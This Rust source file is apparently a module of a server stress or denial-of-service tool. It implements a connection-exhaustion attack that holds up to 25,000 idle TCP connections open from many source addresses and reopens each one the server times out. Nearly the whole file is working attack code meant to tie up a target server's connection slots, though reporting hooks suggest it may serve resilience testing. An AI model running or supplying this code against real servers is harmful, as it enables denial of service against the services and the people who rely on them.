//! `sockets`: bare TCP connections that never send a request, held open from every source
//! address. A connection the server closes after a while without answering (its time limit
//! on a request's head) is opened again, so that the hostile client keeps what it can; one
//! the server answers (a refusal) or does not accept is given up.

use super::client::{Descriptors, source};
use super::helpers::{Helpers, Share};
use super::http;
use super::kit::{Opts, Report, Stop, Tally, Target, Watch};
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::AsyncReadExt;
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;

/// Connections opened in all by default.
pub const DEFAULT_COUNT: usize = 25_000;

/// The longest wait for a connection to be set up.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);

/// Connections being set up at once.
const CONNECTING_AT_ONCE: usize = 256;

/// How a held connection ended.
enum Held {
    /// Still open when the attack ended.
    ToTheEnd,
    /// The server wrote an answer (a status) and closed it.
    Answered(u16),
    /// The server closed it without a word after this long.
    Closed(Duration),
    /// The server reset it.
    Reset,
}

/// Runs the attack (see the module's comment).
pub async fn run(target: Target, opts: &Opts) -> Result<Report, String> {
    let share = Share {
        attack: "sockets".to_string(),
        addr: target.addr,
        path: String::new(),
        first: 0,
        count: opts.count.unwrap_or(DEFAULT_COUNT),
        addresses: opts.addresses,
    };
    let room = Descriptors::reserve(share.count);
    let watch = Watch::start(target, opts).await;
    let tally = Tally::new();
    let mut notes = Vec::new();
    let (here, helpers) = Helpers::spread(&share, opts, &room, &mut notes);
    hold(&here, &tally, watch.stop()).await;
    helpers.finish(&tally).await;
    Ok(watch.finish("sockets", &tally, notes).await)
}

/// Holds the connections of `share` until `stop`.
pub async fn hold(share: &Share, tally: &Arc<Tally>, stop: Stop) {
    let gate = Arc::new(Semaphore::new(CONNECTING_AT_ONCE));
    let mut slots = JoinSet::new();
    for i in share.first..share.first + share.count {
        slots.spawn(slot(
            source(i, share.addresses),
            share.addr,
            Arc::clone(&gate),
            Arc::clone(tally),
            stop.clone(),
        ));
    }
    while slots.join_next().await.is_some() {}
}

/// One connection of the hostile client from `from`, opened again while the server only
/// times it out, until `stop`.
async fn slot(from: IpAddr, addr: SocketAddr, gate: Arc<Semaphore>, tally: Arc<Tally>, stop: Stop) {
    while !stop.is_set() {
        let connected = {
            let Ok(_turn) = gate.acquire().await else {
                return;
            };
            if stop.is_set() {
                return;
            }
            tokio::time::timeout(CONNECT_TIMEOUT, http::connect_from(Some(from), addr)).await
        };
        let tcp = match connected {
            Ok(Ok(tcp)) => tcp,
            Ok(Err(_)) => return tally.add("connect failed"),
            Err(_) => return tally.add("connect timed out"),
        };
        tally.add("connected");
        let _open = tally.open();
        match keep(tcp, &stop).await {
            Held::ToTheEnd => return tally.add("held to the end"),
            Held::Answered(status) => return tally.add(format!("answered {status} and closed")),
            Held::Reset => return tally.add("reset by the server"),
            Held::Closed(after) if after < Duration::from_millis(100) => {
                return tally.add("closed at once without an answer");
            }
            Held::Closed(after) => {
                tally.add(format!(
                    "closed without an answer after {} s (opened again)",
                    after.as_secs()
                ));
            }
        }
    }
}

/// Holds `tcp` without sending anything until the server ends it or `stop`.
async fn keep(mut tcp: TcpStream, stop: &Stop) -> Held {
    let since = Instant::now();
    let mut said = Vec::new();
    let mut buf = [0u8; 512];
    loop {
        let read = tokio::select! {
            read = tcp.read(&mut buf) => read,
            () = stop.wait() => return Held::ToTheEnd,
        };
        match read {
            Ok(0) => break,
            Ok(n) if said.len() < 4096 => said.extend_from_slice(&buf[..n]),
            Ok(_) => {}
            Err(_) => return Held::Reset,
        }
    }
    let said = String::from_utf8_lossy(&said);
    match said.split_whitespace().nth(1).and_then(|s| s.parse().ok()) {
        Some(status) if said.starts_with("HTTP/") => Held::Answered(status),
        _ => Held::Closed(since.elapsed()),
    }
}
